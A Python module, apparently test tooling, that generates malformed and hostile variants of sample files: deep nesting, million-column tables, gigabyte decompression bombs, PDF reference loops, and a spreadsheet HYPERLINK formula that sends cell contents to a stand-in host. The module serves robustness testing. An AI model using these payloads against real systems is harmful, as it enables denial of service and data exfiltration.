"""Twins of a good file that nobody means well: cut short, in another encoding, with NULs, far too wide, nested, computed."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable

from exchange.filed import workbook

WIDE = 1_000_000
"""Columns, keys or cells of a file that is no table."""
DEEP = 100_000
"""Brackets, tags or parts within each other."""
FORMULA = '=HYPERLINK("https://x.example/"&A1,"y")'


def twins(file: str, data: bytes) -> dict[str, Callable[[], bytes]]:
    """Return what makes each twin of a sample, by what is wrong with it."""
    ending = file.rpartition(".")[2]
    made: dict[str, Callable[[], bytes]] = {
        "empty": lambda: b"",
        "cut short": lambda: data[: len(data) // 2],
        "NULs": lambda: data[: len(data) // 2] + b"\0" * 40 + data[len(data) // 2 :],
        "another encoding": lambda: data[: len(data) // 2] + b"\xe9\xe0\xff" + data[len(data) // 2 :],
        "of bytes alone": lambda: bytes(range(256)) * 400,
    }
    if ending not in ("xlsx", "parquet", "docx", "pdf"):
        made["UTF-16 without its mark"] = lambda: data.decode().encode("utf-16-le")
    special = {"csv": _table, "tsv": _table, "json": _json, "jsonl": _json, "geojson": _json, "xlsx": _xlsx,
               "docx": _docx, "html": _html, "eml": _mail, "txt": _text, "md": _text, "pdf": _pdf}  # fmt: skip
    return made | (special[ending](data) if ending in special else {})


def _rows(data: bytes) -> list[list[str]]:
    text = data.decode()
    return list(csv.reader(io.StringIO(text), delimiter="\t" if "\t" in text.split("\n")[0] else ","))


def _written(rows: list[list[str]], data: bytes) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n", delimiter="\t" if b"\t" in data.split(b"\n")[0] else ",").writerows(rows)
    return out.getvalue().encode()


def _table(data: bytes) -> dict[str, Callable[[], bytes]]:
    header, *rows = _rows(data)
    wide = [f"w{i}" for i in range(WIDE)]
    return {
        "only a header": lambda: _written([header], data),
        "formulas": lambda: _written([header, *([FORMULA] * len(header) for _ in rows)], data),
        "a million columns": lambda: _written([header + wide, *(row + wide for row in rows)], data),
        "a million cells in a row": lambda: _written([header, *(row + wide for row in rows)], data),
        "nested in a cell": lambda: _written([header, *(["[" * DEEP] * len(header) for _ in rows)], data),
        "a quote left open": lambda: data + b'\n"' + b"a,b\n" * DEEP,
        "the header twice": lambda: _written([header + header, *(row + row for row in rows)], data),
    }


def _json(data: bytes) -> dict[str, Callable[[], bytes]]:
    document = json.loads(data)
    record = document[0] if isinstance(document, list) else document
    deep = "[" * DEEP + "]" * DEEP

    def again(changed: dict[str, object]) -> bytes:
        return json.dumps([changed] if isinstance(document, list) else changed).encode()

    return {
        "only a header": lambda: b"[]" if isinstance(document, list) else b"{}",
        "formulas": lambda: again({**record, **{k: FORMULA for k, v in record.items() if isinstance(v, str)}}),
        "a million columns": lambda: again({**record, **{f"w{i}": 1 for i in range(WIDE)}}),
        "nested": lambda: deep.encode(),
        "nested in a field": lambda: again({**record, "deep": "DEEP"}).replace(b'"DEEP"', deep.encode()),
        "nested and wide": lambda: again({**record, "deep": [[{"a": [0] * 50}] * 500] * 50}),
        "nested objects": lambda: b'{"a":' * DEEP,
        "a key twice": lambda: again(record).replace(b"{", b'{"id": "z", "id": "y", ', 1),
        "numbers past all sense": lambda: again({**record, "id": 10**4000, "latitude": 1e308}),
    }


def _xlsx(data: bytes) -> dict[str, Callable[[], bytes]]:
    from openpyxl import load_workbook

    header, *rows = [list(row) for row in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)]

    def sheet(inside: str) -> bytes:
        out = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(data)) as old,
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
        ):
            for part in old.infolist():
                body = old.read(part)
                at = part.filename.startswith("xl/worksheets/")
                new.writestr(part.filename, f"<worksheet>{inside}</worksheet>".encode() if at else body)
        return out.getvalue()

    return {
        "only a header": lambda: workbook([header]),
        "formulas": lambda: workbook([header, *([FORMULA] * len(header) for _ in rows)]),
        "sixteen thousand columns": lambda: workbook([header + [f"w{i}" for i in range(16_000)], *rows]),
        "a million columns": lambda: sheet(f"<sheetData><row>{'<c><v>1</v></c>' * WIDE}</row></sheetData>"),
        "a sheet that unpacks to a gigabyte": lambda: sheet("<sheetData>" + " " * (2**30) + "</sheetData>"),
        "nested": lambda: sheet("<a>" * DEEP + "</a>" * DEEP),
        "a cell far away": lambda: sheet(
            '<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        ),
        "no sheet": lambda: sheet(""),
    }


def _docx(data: bytes) -> dict[str, Callable[[], bytes]]:
    def document(body: str) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
            new.writestr("word/document.xml", body)
        return out.getvalue()

    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return {
        "nested": lambda: document(f"<w:document {space}>{'<w:p>' * DEEP}{'</w:p>' * DEEP}</w:document>"),
        "entities": lambda: document('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        "a part that unpacks to a gigabyte": lambda: document(" " * 2**30),
        "no document": lambda: workbook([["a"]]),
    }


def _html(data: bytes) -> dict[str, Callable[[], bytes]]:
    return {
        "nested": lambda: b"<div>" * DEEP + data + b"</div>" * DEEP,
        "an encoding that is none": lambda: b"<meta charset='none-such'>" + data,
        "an encoding that is no text": lambda: b"<meta charset='base64'>" + data,
        "a tag left open": lambda: data + b"<a " + b'b="' * DEEP,
        "comments": lambda: b"<!--" * DEEP + data,
        **_text(data),
    }


def _mail(data: bytes) -> dict[str, Callable[[], bytes]]:
    parts = "".join(f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n' for i in range(DEEP // 50))
    return {
        "nested": lambda: parts.encode() + data,
        "an encoding that is none": lambda: b"Content-Type: text/plain; charset=none-such\n" + data,
        "an encoding that is no text": lambda: b"Content-Type: text/plain; charset=base64\n" + data,
        "a header without end": lambda: b"Subject: " + b"=?utf-8?q?a?= " * DEEP + b"\n\n" + data,
        "a date that is none": lambda: b"Date: 99 Foo 99999 99:99\n" + data.replace(b"Date", b"Other"),
    }


def _pdf(data: bytes) -> dict[str, Callable[[], bytes]]:
    return {
        "nested": lambda: data.replace(b"[0 0 595 842]", b"[" * DEEP),
        "a page of itself": lambda: data.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
        "a table of places that lies": lambda: data.replace(b"0000000009", b"0000099999"),
    }


def _text(data: bytes) -> dict[str, Callable[[], bytes]]:
    line = b"A shell killed 1 man and 2 women and "
    return {
        "a sentence without end": lambda: line * 5_000,
        "numbers without end": lambda: b"killed " + b"1 and " * 5_000 + b"people in Belad.",
        "names without end": lambda: b"An attack on " + b"Belad, " * 5_000 + b"killed 2.",
        "sentences just short": lambda: (line * 25 + b"in Belad.\n\n") * 50,
        "quotes left open": lambda: b"\xe2\x80\x9cA shell hit Belad, " * 5_000,
        "names just short": lambda: (b"An attack on " + b"Belad in Karsim, " * 55 + b"killed 2.\n\n") * 50,
        "spaces": lambda: b"A shell" + b" " * 500_000 + b"hit Belad.",
        "a line of letters": lambda: b"a" * 1_000_000,
        "lines": lambda: b"\n" * 1_000_000 + data,
    }
